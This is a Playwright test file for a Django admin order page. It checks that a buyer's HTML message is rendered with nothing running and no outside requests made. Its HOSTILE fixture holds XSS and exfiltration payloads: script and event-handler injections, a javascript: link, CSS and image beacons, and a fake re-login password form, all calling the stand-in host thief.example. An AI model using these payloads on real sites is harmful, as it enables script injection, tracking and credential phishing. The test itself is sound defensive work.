"""An order's page in a real browser: all in one view, and nothing of what strangers wrote runs."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from accounts.models import Role
from tests.factories import (
    AccountFactory,
    CaseFactory,
    InquiryFactory,
    MembershipFactory,
    MessageBodyFactory,
    MessageFactory,
    OrderFactory,
    OrderLineItemFactory,
    ReturnFactory,
)

from .steps import log_in

pytestmark = pytest.mark.slow

ITEM = "110012345678"
HOSTILE = """
<html><head><style>@import url(http://thief.example/a.css); body { background: url(http://thief.example/b) }
</style><link rel="stylesheet" href="http://thief.example/c.css">
<meta http-equiv="refresh" content="0;url=http://thief.example/d"></head>
<body onload="window.hit = 1"><script>window.hit = 1; new Image().src = 'http://thief.example/e'</script>
<img src="http://thief.example/f.png" onerror="window.hit = 1"><img src=x onerror=window.hit=1>
<svg onload="window.hit = 1"><image href="http://thief.example/g.svg"/></svg>
<iframe src="http://thief.example/h"></iframe><video src="http://thief.example/i" autoplay></video>
<form action="http://thief.example/j"><input name="password"><button>Log in again</button></form>
<div style="position: fixed; inset: 0; background: url(http://thief.example/k)">Where is my <b>hammer</b>?
</div>
<a href="javascript:window.hit = 1">press me</a> <a href="/admin/logout/">out</a>
<a href="https://www.ebay.example/itm/1" onclick="window.hit = 1">the item</a></body></html>
"""


@pytest.fixture
def order(transactional_db):
    order = OrderFactory(account=AccountFactory(), order_id="12-1", buyer_username="buyer_1")
    OrderLineItemFactory(order=order, legacy_item_id=ITEM, line_item_id="10001", title="A blue hammer")
    for make in (ReturnFactory, CaseFactory, InquiryFactory):
        make(account=order.account, order_id="12-1")
    letter = MessageFactory(account=order.account, item_id=ITEM, sender="buyer_1", subject="Where is it?")
    MessageBodyFactory(account=order.account, message_id=letter.message_id, html=HOSTILE)
    return order


def test_a_hostile_letter_is_read_and_runs_nothing(browser_page: Page, live_server, order):
    page, asked, dialogs = browser_page, [], []
    page.context.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    log_in(page, MembershipFactory(organization=order.account.organization, role=Role.VIEWER).user)
    page.set_viewport_size({"width": 390, "height": 844})
    page.goto(f"/admin/syncworkers/order/{order.pk}/change/")
    for words in ("A blue hammer", "Return", "Inquiry", "Case", "Where is it?"):
        expect(page.locator("#content-main, main, body").first).to_contain_text(words)
    page.locator("summary", has_text="Where is it?").click()
    letter = page.locator(".ec-letter")
    expect(letter).to_contain_text("Where is my hammer?")
    assert letter.locator("b").inner_text() == "hammer"
    letter.get_by_text("press me").click()
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.hit") is None
    assert not dialogs
    assert [url for url in asked if not url.startswith((live_server.url, "data:"))] == []
    assert (
        letter.locator("script, style, img, svg, iframe, video, form, input, [style], [onclick]").count() == 0
    )
    assert [link.get_attribute("href") for link in letter.locator("a[href]").all()] == [
        "https://www.ebay.example/itm/1"
    ]
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
